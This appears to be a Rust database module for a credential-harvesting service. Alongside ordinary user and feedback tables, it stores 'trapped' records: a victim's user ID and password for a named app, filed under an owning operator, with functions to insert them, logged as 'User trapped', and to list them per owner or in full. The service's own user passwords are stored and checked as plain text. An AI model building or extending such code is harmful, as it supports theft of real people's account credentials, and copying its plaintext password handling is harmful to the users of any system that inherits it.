use sqlx::any::AnyRow;
use sqlx::{FromRow, Row};
use tracing::{debug, error, info};

use crate::config::DbConfig;
use crate::db::executor::{FetchMode, Fetched, Param, QueryExecutor};
use crate::db::models::{FeedbackMessage, Listing, TrappedRecord, User};
use crate::db::schema::TABLES;
use crate::error::StoreError;

const USER_EXISTS: &str = "SELECT 1 FROM Users WHERE UID = ?";
const INSERT_USER: &str = "INSERT INTO Users (UID, EMAIL, PASSWORD) VALUES (?, ?, ?)";
const USER_PASSWORD: &str = "SELECT PASSWORD FROM Users WHERE UID = ?";
const ALL_USERS: &str = "SELECT UID, EMAIL, PASSWORD FROM Users";
const COUNT_USERS: &str = "SELECT COUNT(*) FROM Users";

const INSERT_TRAPPED: &str =
    "INSERT INTO TrappedRecords (OWNER, APP, UID, PASSWORD) VALUES (?, ?, ?, ?)";
const TRAPPED_FOR_OWNER: &str =
    "SELECT OWNER, APP, UID, PASSWORD FROM TrappedRecords WHERE OWNER = ?";
const COUNT_TRAPPED_FOR_OWNER: &str = "SELECT COUNT(*) FROM TrappedRecords WHERE OWNER = ?";
const ALL_TRAPPED: &str = "SELECT OWNER, APP, UID, PASSWORD FROM TrappedRecords";
const COUNT_TRAPPED: &str = "SELECT COUNT(*) FROM TrappedRecords";

const INSERT_FEEDBACK: &str =
    "INSERT INTO FeedbackMessages (UID, NAME, EMAIL, MSG) VALUES (?, ?, ?, ?)";
const ALL_FEEDBACK: &str = "SELECT UID, NAME, EMAIL, MSG FROM FeedbackMessages";
const COUNT_FEEDBACK: &str = "SELECT COUNT(*) FROM FeedbackMessages";

/// Table-level operations for users, trapped records, and feedback.
///
/// Cheap to clone; clones share the pool.
#[derive(Clone)]
pub struct Store {
    exec: QueryExecutor,
}

impl Store {
    pub fn new(exec: QueryExecutor) -> Self {
        Self { exec }
    }

    pub async fn connect(cfg: &DbConfig) -> Result<Self, StoreError> {
        let pool = super::connect(cfg).await?;
        Ok(Self::new(QueryExecutor::new(pool, cfg.statement_timeout())))
    }

    pub fn executor(&self) -> &QueryExecutor {
        &self.exec
    }

    /// Create every table that does not exist yet.
    ///
    /// Each table is attempted even if an earlier one failed; the error names
    /// all tables that could not be created.
    pub async fn init_schema(&self) -> Result<(), StoreError> {
        let mut failed = Vec::new();
        for (table, ddl) in TABLES {
            if let Err(e) = self.exec.execute(ddl, &[], FetchMode::None, true).await {
                error!(table, error = %e, "Failed to create table");
                failed.push(table.to_string());
            }
        }

        if !failed.is_empty() {
            return Err(StoreError::Schema(failed));
        }
        info!("All necessary tables checked/created");
        Ok(())
    }

    pub async fn user_exists(&self, uid: &str) -> Result<bool, StoreError> {
        debug!(uid, "Checking if user exists");
        let rows = self
            .exec
            .execute(USER_EXISTS, &[uid.into()], FetchMode::All, false)
            .await?
            .into_rows();
        debug!(uid, rows = rows.len(), "User lookup finished");
        Ok(!rows.is_empty())
    }

    pub async fn insert_user(&self, uid: &str, email: &str, password: &str) -> Result<(), StoreError> {
        self.exec
            .execute(
                INSERT_USER,
                &[uid.into(), email.into(), password.into()],
                FetchMode::None,
                true,
            )
            .await?;
        info!(uid, "User added");
        Ok(())
    }

    /// True when `uid` exists and its stored password equals `password`.
    ///
    /// Plain string equality against a plain-text column. A database failure
    /// is returned as an error, never as `false`.
    pub async fn check_credential(&self, uid: &str, password: &str) -> Result<bool, StoreError> {
        debug!(uid, "Checking user credential");
        let row = self
            .exec
            .execute(USER_PASSWORD, &[uid.into()], FetchMode::One, false)
            .await?
            .into_row();
        match row {
            Some(row) => {
                let stored: String = decoded(row.try_get(0), "Users.PASSWORD")?;
                Ok(stored == password)
            }
            None => Ok(false),
        }
    }

    pub async fn insert_trapped(
        &self,
        owner: &str,
        app: &str,
        uid: &str,
        password: &str,
    ) -> Result<(), StoreError> {
        self.exec
            .execute(
                INSERT_TRAPPED,
                &[owner.into(), app.into(), uid.into(), password.into()],
                FetchMode::None,
                true,
            )
            .await?;
        info!(owner, app, uid, "User trapped");
        Ok(())
    }

    pub async fn trapped_for_owner(&self, owner: &str) -> Result<Listing<TrappedRecord>, StoreError> {
        debug!(owner, "Loading trapped records for owner");
        self.listing(TRAPPED_FOR_OWNER, COUNT_TRAPPED_FOR_OWNER, &[owner.into()])
            .await
    }

    pub async fn all_trapped(&self) -> Result<Listing<TrappedRecord>, StoreError> {
        debug!("Loading all trapped records");
        self.listing(ALL_TRAPPED, COUNT_TRAPPED, &[]).await
    }

    pub async fn all_users(&self) -> Result<Listing<User>, StoreError> {
        debug!("Loading all users");
        self.listing(ALL_USERS, COUNT_USERS, &[]).await
    }

    pub async fn save_feedback(
        &self,
        uid: &str,
        name: &str,
        email: &str,
        msg: &str,
    ) -> Result<(), StoreError> {
        self.exec
            .execute(
                INSERT_FEEDBACK,
                &[uid.into(), name.into(), email.into(), msg.into()],
                FetchMode::None,
                true,
            )
            .await?;
        info!(uid, "Feedback saved");
        Ok(())
    }

    pub async fn all_feedback(&self) -> Result<Listing<FeedbackMessage>, StoreError> {
        debug!("Loading all feedback");
        self.listing(ALL_FEEDBACK, COUNT_FEEDBACK, &[]).await
    }

    async fn listing<T>(
        &self,
        detail: &str,
        count: &str,
        params: &[Param<'_>],
    ) -> Result<Listing<T>, StoreError>
    where
        T: for<'r> FromRow<'r, AnyRow>,
    {
        let mut results = self
            .exec
            .snapshot(&[(detail, FetchMode::All), (count, FetchMode::One)], params)
            .await?
            .into_iter();

        let rows = decoded(
            results
                .next()
                .map(Fetched::into_rows)
                .unwrap_or_default()
                .iter()
                .map(|row| T::from_row(row))
                .collect::<Result<Vec<_>, _>>(),
            "detail rows",
        )?;
        let count = match results.next().and_then(Fetched::into_row) {
            Some(row) => decoded(row.try_get::<i64, _>(0), "row count")?,
            None => 0,
        };

        Ok(Listing {
            rows,
            count: u64::try_from(count).unwrap_or_default(),
        })
    }
}

/// Row decoding happens after the executor returns, so failures are logged here.
fn decoded<T>(result: Result<T, sqlx::Error>, what: &'static str) -> Result<T, StoreError> {
    result.map_err(|e| {
        let err = StoreError::from(e);
        error!(what, error = %err, kind = ?err.kind(), "Failed to decode row");
        err
    })
}
